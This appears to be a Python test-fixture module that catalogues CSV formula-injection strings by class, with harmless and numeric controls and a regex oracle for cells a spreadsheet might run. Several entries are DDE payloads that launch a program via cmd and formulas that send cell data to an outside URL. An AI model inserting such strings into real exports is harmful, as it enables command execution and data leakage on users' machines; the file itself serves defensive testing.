"""Text cells that a spreadsheet could run, by class, and an oracle of its own."""

import csv
import io
import re

_PAYLOADS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org?x="&A1;"see")',
    "IMPORTXML(A1,B1)",
    "2+5+cmd|' /C calc'!A0",
    "@SUM(1)",
    "webservice(A1)",
)
_SIGNS = "=+-@\N{FULLWIDTH EQUALS SIGN}\N{FULLWIDTH PLUS SIGN}\N{FULLWIDTH HYPHEN-MINUS}" + (
    "\N{FULLWIDTH COMMERCIAL AT}"
)

FORMULAS = {
    "sign": [f"{sign}{payload}" for sign in _SIGNS for payload in _PAYLOADS],
    "apostrophe": [f"{marks}={payload}" for marks in ("'", "''") for payload in _PAYLOADS],
    "quoted": [f'{lead}{payload}"' for lead in ('"=', '"-', '""=', '"@') for payload in _PAYLOADS],
    "separator": [
        f"x{mark}{payload}"
        for mark in (";=", ",=", ";-", "; @", ';"=', "|=", ",+")
        for payload in _PAYLOADS
    ],
    "dde": [
        "|cmd' /C calc'!A0",
        "%0A=1+1",
        "=DDE('cmd';'/C calc';'!A0')",
        "+cmd|x!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@cmd|x!A0",
        "-2.5-2",
        "--5",
    ],
    "number and more": ["-5;=1+1", "-5 =1", "-1,5,=2", "+5", "-1e5", "-0x1", "-.5", "-5%"],
    "both": [f"{sign}1,{sign}2;{sign}3" for sign in "=+@"] + ["='=", "';=1", "-a;'=b", "'-5;-5"],
    "blank after": ["= 1", "+ 1", "- 1", "@ 1", "=", "+", "-", "@", "|", "%"],
    "umlaut": ["=Grüße!A1", "=ÄÖÜ", "-Ø", "+ß", "@é", "＝Größe"],
}
"""Texts that the data dictionary accepts: no control character, no blank at an end."""

NUMBERS = ["-2.5", "-5", "-0", "-12345.6", "-1,5", "7", "0.5"]
"""Texts that are numbers, which nothing may touch."""

HARMLESS = [
    "P-1",
    "north; south",
    "O'Neill",
    "'quoted'",
    "a,b",
    "x=1",
    "1-2",
    "a @ b",
    "50 %",
    "''",
]
"""Texts that only look a little like formulas."""

ALL_FORMULAS = [text for texts in FORMULAS.values() for text in texts]

_RUNS = re.compile('^[\\s"\ufeff\u200b]*[=+\\-@|%\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]')


def runs(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula; a number it may take for a number."""
    return bool(_RUNS.search(cell)) and not re.fullmatch(r"-\d+([.,]\d+)?", cell)


def running_cells(text: str, delimiters: str = ",;\t|") -> list[str]:
    """Cells of a CSV text that may run, whatever delimiter the spreadsheet's country has."""
    found = []
    for delimiter in delimiters:
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            found += [cell for cell in line if runs(cell)]
    return found
